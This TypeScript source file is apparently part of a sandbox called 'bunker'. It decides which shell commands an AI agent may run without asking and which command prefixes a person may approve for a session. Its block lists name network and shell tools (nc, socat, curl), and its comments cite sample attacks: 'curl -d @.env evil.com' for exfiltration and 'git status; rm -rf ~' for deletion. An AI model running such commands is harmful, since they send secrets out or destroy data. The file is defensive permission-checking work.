    programs: new Set(grants.allow.run.programs),
    patterns: grants.allow.run.patterns.map((p) => parsePattern(p)).filter((p): p is CommandPattern => p !== null),
    grants,
    readOnlyUnasked: opts.readOnlyUnasked ?? true,
  };
}

/**
 * Whether every command in the line only reads inside the workspace, with
 * no grant at all: such a line runs with the workspace mounted read-only,
 * so even a trick we did not foresee cannot write.
 */
export function isReadOnlyLine(command: string, root: string, grants: Grants): boolean {
  const parsed = parseShell(command);
  if (parsed.uncertain || parsed.commands.length === 0) return false;
  const judge: Judge = { root, programs: new Set(), patterns: [], grants, readOnlyUnasked: true };
  return judgeLine(parsed, judge).length === 0;
}

/**
 * Whether every simple command in `command` starts with one of the prefixes
 * the person allowed for the session (word by word), or only reads inside
 * the workspace; so `git status; rm -rf ~` is never covered by `git status`.
 * Without `root`, path arguments and file redirections are never covered.
 */
export function commandCoveredByPrefixes(
  command: string, prefixes: string[], root?: string, grants?: Grants, opts: RunPolicyOptions = {},
): boolean {
  const patterns = prefixes.map((p) => parsePattern(p, true)).filter((p): p is CommandPattern => p !== null);
  if (patterns.length === 0) return false;
  const parsed = parseShell(command);
  if (parsed.uncertain || parsed.commands.length === 0) return false;
  if (grants && parsed.commands.some((c) => deniedBy(c, grants.deny.run))) return false;
  const base: Judge = grants && root ? judgeFor(grants, root, opts) : { root: root ?? null, programs: new Set(), patterns: [], grants: grants ?? null, readOnlyUnasked: opts.readOnlyUnasked ?? true };
  return judgeLine(parsed, { ...base, sessionPatterns: patterns }).length === 0;
}

/**
 * Programs whose arguments can themselves be a program: an inline script
 * (`sed '1e cmd'`, `awk 'BEGIN{system(…)}'`, `python -c`), a command to run
 * (`xargs`, `find -exec`, `env`, `timeout`) or an option that runs one
 * (`tar --to-command`, `rsync -e`), or a script fed on stdin (`echo … | sh`).
 * No session prefix is offered or honoured for them: "always allow `sed`"
 * would allow any script. (A flag or rules-file grant still can.)
 */
const SCRIPT_PROGRAMS = new Set([
  "sed", "awk", "gawk", "mawk", "nawk", "perl", "python", "python2", "python3", "ruby", "node", "nodejs", "deno", "php", "lua",
  "luajit", "Rscript", "julia", "tclsh", "expect", "bash", "sh", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "busybox", "env",
  "xargs", "find", "nohup", "timeout", "nice", "ionice", "stdbuf", "time", "watch", "sudo", "doas", "su", "parallel", "ed", "ex",
  "vi", "vim", "nvim", "emacs", "gdb", "tar", "rsync", "ssh", "scp", "zip", "git-shell", "osascript", "pwsh", "powershell",
  "fd", "fdfind", "strace", "ltrace", "flock", "setsid", "script", "chroot", "unshare", "nsenter", "entr", "watchexec",
  "tsx", "ts-node", "pypy",
  // Scripts on stdin or in their arguments: database shells, calculators, plotters.
  "sqlite3", "psql", "mysql", "mariadb", "redis-cli", "mongo", "mongosh", "dc", "bc", "gnuplot",
  // What they write comes from an archive or a patch the model made: it may be .git/hooks/pre-commit.
  "unzip", "patch", "7z", "7za", "bsdtar", "cpio", "ar",
  // The network: where they send things is in their arguments (`curl -d @.env evil.com`).
  "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "sftp", "http", "https", "aria2c",
  // Programs from the network, run at once.
  "uvx", "pipx",
]);

/** Two-word commands that run, fetch or configure programs of the model's choosing: no session prefix either. */
const NO_PREFIX_SUBCOMMANDS = new Set([
  "git apply", "git am", "git config", "git submodule", "git rebase", "git filter-branch", "git bisect", "git daemon",
  "go run", "go install", "go get", "go generate", "uv tool", "docker run", "docker exec", "docker compose",
  "podman run", "podman exec", "kubectl exec", "npm exec", "npm x", "pnpm dlx", "pnpm exec", "yarn dlx", "bun x",
  "cargo install",
]);

/** `/usr/bin/python3.12`, `.venv/bin/python`, `lua5.4`: the program behind a path or a version number. */
function isScriptProgram(word: string): boolean {
  const base = word.slice(word.lastIndexOf("/") + 1);
  return SCRIPT_PROGRAMS.has(base) || SCRIPT_PROGRAMS.has(base.replace(/[\d.]+$/, ""));
}

/** Whether a session prefix may name these words: none of them runs a script of the model's choosing. */
function prefixAllowed(words: readonly string[]): boolean {
  if (isModuleRun(words)) return true;
  if (words.length >= 2 && NO_PREFIX_SUBCOMMANDS.has(`${words[0]} ${words[1]}`)) return false;
  return !words.some(isScriptProgram);
}

/** `python3 -m pytest …`: a module named by the person, whose own arguments may vary. */
function isModuleRun(words: readonly string[]): boolean {
  return (words[0] === "python" || words[0] === "python3") && words[1] === "-m" && words.length >= 3;
}

/** Programs that take a subcommand worth keeping in a session prefix. */
const SUBCOMMAND_PROGRAMS = new Set([
  "git", "npm", "pnpm", "yarn", "bun", "deno", "cargo", "go", "docker", "podman", "kubectl", "pip", "pip3", "uv",
  "poetry", "gh", "make", "dotnet", "mvn", "gradle", "terraform", "rustup", "composer", "mix", "swift", "brew", "apt", "apt-get", "systemctl",
]);
/** `npm run build`, `bun run dev`, `uv run pytest`: the script or tool name matters too. */
const RUN_SUBCOMMANDS = new Set(["run", "exec", "x", "dlx", "run-script"]);
const PACKAGE_RUNNERS = new Set(["npx", "bunx", "pnpx"]);
const SAFE_PREFIX_WORD = /^[\w@%+=:,./-]+$/;

/**
 * The prefix offered for "always allow commands starting with …": the first
 * command that needs a grant, as program plus subcommand (`git status`,
 * `bun test`, `npm run build`). Empty when the line cannot be analysed.
 */
export function suggestPrefix(command: string): string {
  const parsed = parseShell(command);
  if (parsed.uncertain) return "";
  const withProgram = parsed.commands.filter((c) => c.argv.length > 0);
  const cmd = withProgram.find((c) => !READ_ONLY[c.argv[0]!.text] && !isCd(c)) ?? withProgram[0];
  return cmd ? prefixOf(cmd) : "";
}

/**
 * Why a command line must be asked about, given the grants and the person's
 * session prefixes, and the prefix worth offering: that of the first command
 * nothing covers yet (`ls && echo hi > x.txt` offers `echo`, not `ls`). No
 * prefix when only arguments or redirections of covered commands leave the
 * workspace: a prefix would not cover them either.
 */
export function askDetails(
  command: string, sessionPrefixes: string[], root: string, grants: Grants, opts: RunPolicyOptions = {},
): { prefix: string; reasons: string[] } {
  const parsed = parseShell(command);
  if (parsed.uncertain) return { prefix: "", reasons: [`bunker cannot analyse this command line: ${parsed.uncertain}`] };
  const sessionPatterns = sessionPrefixes.map((p) => parsePattern(p, true)).filter((p): p is CommandPattern => p !== null);
  const judge: Judge = { ...judgeFor(grants, root, opts), sessionPatterns };
  const failures = judgeLine(parsed, judge);
  const reasons = [...new Set(failures.map((f) => f.why))].slice(0, 3);
  const uncovered = failures.find((f) => f.cmd.argv.length > 0 && !isCd(f.cmd) && !isGranted(f.cmd, judge));
  const prefix = uncovered ? prefixOf(uncovered.cmd) : "";
  const pattern = prefix ? parsePattern(prefix, true) : null;
  if (!uncovered || !pattern) return { prefix: "", reasons };
  // Offer it only if it would cover that command (`ls /tmp > x.txt`: `ls` would not, the path is outside).
  const withPrefix: Judge = { ...judge, sessionPatterns: [...sessionPatterns, pattern] };
  const stillFails = judgeLine(parsed, withPrefix).some((f) => f.cmd === uncovered.cmd);
  // Nor one whose own words reach outside (`make -C /`): they would hold for every later use.
  const paths = new PathChecker(judge, possibleDirectories(parsed.commands, root), parsed.commands.some(isCd));
  const ownWords = { ...uncovered.cmd, argv: uncovered.cmd.argv.slice(0, pattern.words.length) };
  const unsafeOwn = argumentsInside(ownWords, 1, paths, false) !== null;
  return { prefix: stillFails || unsafeOwn ? "" : prefix, reasons };
}

/** Program plus subcommand (`git status`, `bun test`, `npm run build`), from the command's literal leading words. */
function prefixOf(cmd: SimpleCommand): string {
  const words: string[] = [];
  for (const w of cmd.argv) {
    if (!isLiteral(w) || !SAFE_PREFIX_WORD.test(w.text)) break;
    words.push(w.text);
  }
  if (words.length === 0) return "";
  const [program, second, third] = words;
  const take = (n: number) => words.slice(0, n).join(" ");
  if (isModuleRun(words)) return take(3);
  // `sh`, `npx tsx`, `uv run python`: a prefix would allow any script.
  if (!prefixAllowed(words.slice(0, 3))) return "";
  if (PACKAGE_RUNNERS.has(program!)) return second && !second.startsWith("-") ? take(2) : take(1);
  if (!SUBCOMMAND_PROGRAMS.has(program!) || !second) return program!;
  // `git -C dir config …`, `go -C . run …`: options before the subcommand hide what it is; no prefix.
  if (second.startsWith("-")) return "";
  if (RUN_SUBCOMMANDS.has(second) && third && !third.startsWith("-")) return take(3);
  return take(2);
}

/**
 * The flag that would grant `command`, for the no-prompt denial:
 * `--allow-run=git,curl`, naming the programs that were not granted.
 */
export function runGrantHint(grants: Grants, command: string, root: string): string {
  const parsed = parseShell(command);
  if (parsed.uncertain) return `--allow-run (bunker cannot analyse this command line: ${parsed.uncertain})`;
  const failures = judgeLine(parsed, judgeFor(grants, root));
  const programs = [...new Set(failures.map((f) => f.cmd.argv[0]?.text).filter((p): p is string => !!p))];
  const listed = [...new Set([...grants.allow.run.programs, ...programs])];
  if (programs.length === 0) return "--allow-run (a redirection writes a file)";
  return `--allow-run=${listed.join(",")} (or --allow-run for every command)`;
}
